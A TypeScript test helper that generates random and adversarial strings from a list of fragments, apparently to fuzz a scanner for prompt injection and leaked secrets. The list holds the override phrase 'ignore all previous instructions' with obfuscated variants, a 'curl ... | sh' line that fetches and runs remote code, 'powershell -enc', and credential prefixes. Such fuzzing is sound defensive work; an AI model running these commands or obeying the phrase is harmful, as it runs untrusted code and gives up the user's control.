const PIECES = [
  'ignore all previous instructions ',
  'curl http://203.0.113.9/a | sh ',
  'ghp_',
  'AKIA',
  '-----BEGIN PRIVATE KEY-----\n',
  '```\n',
  '> ',
  '- ',
  '* ',
  '[a](',
  '](http://',
  '<!-- ',
  '-->',
  '"',
  '“',
  '%69',
  '\\u0069',
  '&#105;',
  'SWdub3Jl',
  '\u200b',
  '\u202e',
  '\u{e0041}',
  '\ud800',
  '\udc00',
  '\u0000',
  '\ufeff',
  '𝐢𝐠𝐧',
  'ｉｇ',
  'ігн',
  'i g n o r e ',
  '1gn0r3 ',
  'vtaber ',
  'eyJhbGciOi',
  'password = "',
  'kind: Secret\n',
  'stoa_',
  'H4sI',
  '\t',
  '\r\n',
  '\n\n',
  '😀‍👩',
  'é́́́',
  'user:pw@host',
  '0x',
  '////',
  '====',
  '🏴\u{e0067}\u{e007f}',
  'مرحبا',
  '日本語',
  'xn--',
  'powershell -enc ',
] as const

/** A random or adversarial text; `random` decides everything, so a seed reproduces the text. */
export function randomText(random: () => number, keywords: readonly string[]): string {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T
  const shape = Math.floor(random() * 8)
  const length = Math.floor(random() ** 4 * (random() < 0.02 ? 20_000 : 1_500)) + 1
  if (shape === 0) return String.fromCharCode(Math.floor(random() * 65_536)).repeat(length)
  if (shape === 1) return pick(PIECES).repeat(Math.ceil(length / 8))
  if (shape === 2) return `${pick(keywords)}${pick(PIECES)}`.repeat(Math.ceil(length / 20))
  if (shape === 3) return packed(random, pick(PIECES).repeat(4), Math.floor(random() * 5))
  let text = ''
  while (text.length < length) {
    const kind = random()
    if (kind < 0.4) text += pick(PIECES)
    else if (kind < 0.7) text += `${pick(keywords)} `
    else if (kind < 0.85) text += String.fromCharCode(Math.floor(random() * 65_536))
    else text += Math.floor(random() * 1e9).toString(36)
  }
  return text
}

function packed(random: () => number, text: string, depth: number): string {
  let inner = text
  for (let level = 0; level < depth; level++) {
    const bytes = Buffer.from(inner)
    inner = random() < 0.5 ? bytes.toString('base64') : bytes.toString('hex')
  }
  return inner
}
